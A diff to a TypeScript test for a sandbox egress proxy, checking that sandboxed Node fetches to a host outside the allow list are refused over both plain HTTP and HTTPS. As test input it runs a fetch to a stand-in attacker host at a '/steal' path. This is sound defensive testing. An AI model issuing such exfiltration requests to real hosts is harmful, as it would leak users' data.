@@ -105,14 +105,19 @@ describe.skipIf(!hasBwrap)('sandbox egress: bwrap + relay + preload + proxy', ()
     expect(proxy.stats().allowed).toBe(before + 1);
   });
 
-  it('refuses a host outside the allow list and names the rule', async () => {
+  it('refuses a host outside the allow list: plain HTTP gets a 403 that names the rule, https a failed tunnel', async () => {
     denials.length = 0;
-    const run = await sandboxed(['node', '-e', fetchScript(`http://attacker.test:${port}/steal`)]);
-    // undici tunnels through CONNECT: the refusal reaches fetch as a failed request, never as the attacker's page.
-    expect(run.stdout).not.toContain('hello from the internet');
-    expect(seen).not.toContain(`attacker.test:${port} /steal`);
-    expect(denials).toEqual([
-      expect.objectContaining({ host: 'attacker.test', port, ruleId: 'sandbox.egress.not-allowed' }),
+    const plain = await sandboxed(['node', '-e', fetchScript(`http://attacker.test:${port}/steal`)]);
+    const answer = JSON.parse(plain.stdout) as { status: number; body: string };
+    expect(answer.status).toBe(403);
+    expect(answer.body).toContain('sandbox.egress.not-allowed');
+    const tls = await sandboxed(['node', '-e', fetchScript(`https://attacker.test:${port}/steal`)]);
+    expect(JSON.parse(tls.stdout)).toHaveProperty('error');
+    expect(tls.code).toBe(2);
+    expect(seen.filter((s) => s.includes('/steal'))).toEqual([]);
+    expect(denials.map((d) => [d.host, d.port, d.ruleId])).toEqual([
+      ['attacker.test', port, 'sandbox.egress.not-allowed'],
+      ['attacker.test', port, 'sandbox.egress.not-allowed'],
     ]);
   });
 
